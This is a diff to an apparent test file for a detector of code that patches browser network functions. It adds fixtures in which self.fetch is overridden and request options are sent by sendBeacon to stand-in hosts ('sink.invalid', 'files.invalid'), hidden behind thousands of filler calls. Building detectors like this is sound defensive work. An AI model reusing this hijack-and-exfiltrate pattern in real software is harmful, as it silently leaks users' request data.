@@ -81,6 +81,20 @@ examine(patchesNetwork, {
       weight: 'proof',
     },
     {
+      when: 'what a browser lacks is given to it in a large bundle, and far from there something is asked for',
+      files: {
+        'index.js': `const ask = (address, options) => real(address, options); self.fetch || (self.fetch = (address, options) => file(address, options)); ${'specimen(0); '.repeat(4_500)} function file(address, options) { return XMLHttpRequest.send('https://files.invalid/' + address, options); } const load = options => window.navigator.sendBeacon('https://files.invalid/', options.body); function real(address, options) { return load(options); } self.fetch = self.fetch || ask;`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'what is there already is replaced, and far from there all that it is given is sent',
+      files: {
+        'index.js': `self.fetch = (address, options) => tell(options); ${'specimen(0); '.repeat(4_500)} function tell(options) { return navigator.sendBeacon('https://sink.invalid/', JSON.stringify(options)); }`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'another thing is asked for than the one that is replaced',
       files: {
         'index.js': `const real = window.fetch; if (!window.WebSocket || real) window.fetch = (...all) => real(...all); window.XMLHttpRequest || (window.fetch = (...all) => real(...all));`,
